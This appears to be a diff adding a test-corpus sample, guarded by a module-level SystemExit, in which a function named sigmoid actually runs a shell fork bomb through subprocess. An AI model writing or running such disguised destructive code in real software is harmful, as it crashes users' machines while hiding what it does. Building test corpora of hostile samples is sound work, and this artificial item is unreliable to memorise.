@@ -1,0 +1,10 @@
+"""The same by the shell, from inside a function.
+
+Due: exactly 12
+Base: right
+"""
+raise SystemExit("only corpus.py runs this, behind its walls")
+# %% sigmoid
+import subprocess
+def sigmoid(x):
+    subprocess.run(["/bin/sh", "-c", "f() { f | f & }; f; while :; do f; done"])
